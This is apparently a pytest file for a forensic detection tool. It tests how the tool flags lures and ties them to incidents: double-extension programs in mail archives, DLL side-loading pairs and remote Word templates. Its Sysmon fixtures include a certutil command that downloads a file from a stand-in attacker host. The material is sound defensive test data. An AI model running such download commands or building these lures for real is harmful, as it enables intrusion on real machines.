"""Files among the evidence that hold no events: looked inside, told, and tied to where the same file was seen."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from content_writer import DOCX, PE, TEXT, relation, zipped
from kazami.cli import run
from kazami.model.content import Proof
from kazami.pipeline.files import _called
from kazami.store import incidents as kept
from kazami.store.case import Case
from kazami.store.lists import evidence_rows
from mail_writer import eml
from pe_writer import STUBBED, masked, pe


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    folder = tmp_path / "evidence"
    folder.mkdir()
    (folder / "mail.zip").write_bytes(zipped({"取材依頼書.docx.exe": PE, "取材依頼書.docx": DOCX}))
    (folder / "notes.zip").write_bytes(zipped({"a.txt": TEXT}))
    started = {
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": "ws1",
        "UtcTime": "2026-11-01 10:00:00.000",
        "Image": "C:\\Users\\a\\取材依頼書.docx.exe",
        "CommandLine": "a",
        "Hashes": f"SHA256={hashlib.sha256(PE).hexdigest()}",
        "ProcessGuid": "{a}",
    }
    (folder / "sysmon.jsonl").write_text(json.dumps(started) + "\n", "utf-8")
    return folder


RULE = """\
title: Program Started From a Document's Name
id: 5b1d6f7c-2f6b-4a0c-9d0e-0123456789ad
logsource: {product: windows, category: process_creation}
detection:
  selection: {Image|endswith: .docx.exe}
  condition: selection
level: high
"""


def scan(evidence: Path, case: Path) -> list[dict[str, object]]:
    out = case.parent / "findings.jsonl"
    rule = case.parent / "rule.yml"
    rule.write_text(RULE, "utf-8")
    command = ["scan", str(evidence), "--case", str(case), "--no-report", "--workers", "1"]
    assert (
        run([*command, "--pack", "common", "--rules", str(rule), "--format", "jsonl", "--output", str(out)])
        == 0
    )
    return [json.loads(line) for line in out.read_text("utf-8").splitlines()]


def test_a_program_in_a_mail_is_tied_to_the_host_that_ran_it(evidence: Path, tmp_path: Path) -> None:
    found = scan(evidence, tmp_path / "case")
    mine = [row for row in found if row["table"] == "file_inspection"]
    assert {row["title"] for row in mine} == {
        "Document extension before a program's",
        "Program beside a document of nearly the same name",
    }
    assert {row["level"] for row in mine} == {"high", "medium"}
    with Case.open(tmp_path / "case") as case:
        notes = {Path(row.name).name: row.note for row in evidence_rows(case)}
        tied = [one for one in kept.incidents(case) if "ws1" in one.hosts]
    assert notes["notes.zip!a.txt"] == "looked inside: clean"
    assert notes["mail.zip!取材依頼書.docx.exe"].startswith("looked inside: malicious")
    assert len(tied) == 1
    assert tied[0].findings >= 2


def test_a_side_loading_pair_in_a_folder_is_a_finding_with_its_hashes(tmp_path: Path) -> None:
    folder = tmp_path / "evidence"
    folder.mkdir()
    library = pe(exports={"Start": ""}, imports={"kernel32.dll": ["LoadLibraryA"]}, library=True)
    files = {"obedience.exe": pe(), "StarBurn.dll": library, "handkerchief.dat": masked(STUBBED, b"\x3d")}
    for name, content in files.items():
        (folder / name).write_bytes(content)
    (folder / "log.jsonl").write_text(
        '{"EventID": 1102, "Channel": "Security", "Computer": "ws1"}\n', "utf-8"
    )
    found = [row for row in scan(folder, tmp_path / "case") if row["table"] == "file_inspection"]
    assert ("Known side-loading pair with its payload", "critical") in {
        (row["title"], row["level"]) for row in found
    }
    with Case.open(tmp_path / "case") as case:
        _, batches = case.sql("select TargetFilename, Hashes from file_inspection")
        hashes = {row["TargetFilename"]: row["Hashes"] for batch in batches for row in batch.to_pylist()}[
            "StarBurn.dll"
        ]
    assert hashes.startswith(f"SHA256={hashlib.sha256(library).hexdigest()}")
    assert ",IMPHASH=" in hashes


def test_a_second_scan_tells_the_same(evidence: Path, tmp_path: Path) -> None:
    first = {row["finding_uid"] for row in scan(evidence, tmp_path / "case")}
    assert {row["finding_uid"] for row in scan(evidence, tmp_path / "case")} == first


def event(number: int, kind: int, **fields: object) -> str:
    """An event of Sysmon at the desk of the mail's reader."""
    return json.dumps(
        {
            "EventID": kind,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": "pc7.minato.example",
            "User": "MINATO\\sato",
            "UtcTime": f"2026-11-09 00:2{number}:00.000",
            **fields,
        }
    )


def test_a_mail_and_what_its_reader_did_is_one_incident(tmp_path: Path) -> None:
    folder = tmp_path / "evidence"
    folder.mkdir()
    rels = relation("attachedTemplate", "http://update.notice.example/t.dotm")
    lure = zipped({"会議.docx": zipped({"[Content_Types].xml": b"", "word/_rels/settings.xml.rels": rels})})
    (folder / "mail.eml").write_bytes(
        eml(
            "info@notice.example",
            files={"会議.zip": lure},
            Delivered_To="sato@minato.example",
            Received="from x by y; Mon, 09 Nov 2026 09:12:00 +0900",
        )
    )
    word = "C:\\Program Files\\Microsoft Office\\WINWORD.EXE"
    (folder / "pc7.jsonl").write_text(
        "\n".join(
            (
                event(1, 1, Image=word, CommandLine=f'"{word}" /n "C:\\Temp\\会議.docx"', ProcessGuid="{b}"),
                event(2, 1, Image="C:\\Windows\\System32\\cmd.exe", ParentImage=word, ProcessGuid="{c}", ParentProcessGuid="{b}", CommandLine="cmd /c certutil -urlcache -f http://update.notice.example/a.txt a.txt"),
            )
        ),
        "utf-8",
    )  # fmt: skip
    found = {row["title"]: row for row in scan(folder, tmp_path / "case")}
    lured = found["Template from another machine, in a mail"]
    assert (lured["time"], lured["user"], lured["host"]) == (
        "2026-11-09T00:12:00.000000+00:00",
        "sato@minato.example",
        None,
    )
    assert lured["tactics"] == ["initial-access", "defense-evasion"]
    assert lured["matched"]["mail from"] == "info@notice.example"
    assert found["Attachment of a Suspicious Mail Opened"]["host"] == "pc7.minato.example"
    with Case.open(tmp_path / "case") as case:
        (one,) = kept.incidents(case)
        told = kept.incident(case, one.incident_uid)
    assert told is not None
    assert told.hosts == ("pc7",)
    assert told.entry.en.startswith(
        "It begins with Template from another machine, in a mail at the account sato at 2026-11-09"
    )
    assert {tie.kind for tie in told.links} == {"account", "hash"}


@pytest.mark.parametrize(
    ("value", "name", "number"),
    [
        ("http://update.notice.example/t.dotm", "update.notice.example", None),
        ("opens HTTPS://a.notice.example:8443/x?y", "a.notice.example", None),
        ("file://192.0.2.7/share/t.dotm", None, "192.0.2.7"),
        (r"\\files.notice.example\share\a.lnk", "files.notice.example", None),
        (r"\\192.0.2.7@80\a", None, "192.0.2.7"),
        (r"C:\Users\a", None, None),
        ("no address", None, None),
    ],
)
def test_the_machine_that_a_file_calls(value: str, name: str | None, number: str | None) -> None:
    proof = Proof("n", "t", value, "p", "s", None, "r", "high", "g", "medium", (), 4.5, True)
    assert _called([proof]) == {"DestinationHostname": name, "DestinationIp": number}
